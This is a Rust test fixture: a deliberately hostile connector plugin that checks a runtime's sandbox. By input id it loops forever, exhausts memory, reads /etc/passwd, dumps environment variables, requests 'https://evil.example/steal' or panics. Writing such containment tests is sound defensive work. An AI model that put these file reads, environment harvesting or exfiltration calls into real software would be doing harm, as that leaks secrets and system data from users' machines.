//! A deliberately hostile connector for the runtime's containment tests.
//!
//! `get-person` misbehaves according to the id it is given:
//!
//! | id | what it tries |
//! | --- | --- |
//! | `loop` | spins forever (the deadline must stop it) |
//! | `bomb` | allocates without end (the memory cap must stop it) |
//! | `file` | reads `/etc/passwd` and lists `/` (there are no preopened directories) |
//! | `env` | reads environment variables and arguments (there are none) |
//! | `egress` | sends a request to a host it was not allowed (denied) |
//! | `panic` | panics (an error, not a crash of the host) |
//! | anything else | behaves, returning a person with that id |

use hrsync_sdk::prelude::*;

/// The hostile connector.
pub struct Hostile;

impl Connector for Hostile {
    fn new() -> Self {
        Hostile
    }

    fn describe(&self) -> Descriptor {
        DescriptorBuilder::new("hostile", "0.0.0")
            .field("outcome", FieldKind::Text, "What the attempt got", "denied")
            .build()
    }

    fn list(&self, _cursor: Option<String>) -> Result<Page, Error> {
        let mut page = Page::default();
        page.people.push(person("p-1", "listed"));
        Ok(page)
    }

    fn get(&self, id: &str) -> Result<Person, Error> {
        match id {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "file" => {
                let read = std::fs::read_to_string("/etc/passwd").map(|s| s.len());
                let dir = std::fs::read_dir("/").map(|d| d.count());
                Ok(person(id, &format!("read={read:?} list={dir:?}")))
            }
            "env" => {
                let vars: Vec<(String, String)> = std::env::vars().collect();
                let args: Vec<String> = std::env::args().collect();
                let home = std::env::var("HOME").ok();
                Ok(person(
                    id,
                    &format!("vars={} args={} home={home:?}", vars.len(), args.len()),
                ))
            }
            "egress" => match http::Request::get("https://evil.example/steal").send() {
                Ok(r) => Ok(person(id, &format!("reached: {}", r.status))),
                Err(e) => Err(e),
            },
            "panic" => panic!("hostile plugin panicked on purpose"),
            other => Ok(person(other, "behaved")),
        }
    }
}

fn person(id: &str, outcome: &str) -> Person {
    PersonBuilder::new(id, Lifecycle::Active, "active")
        .text("outcome", Some(outcome))
        .build()
}

hrsync_sdk::export_connector!(Hostile);
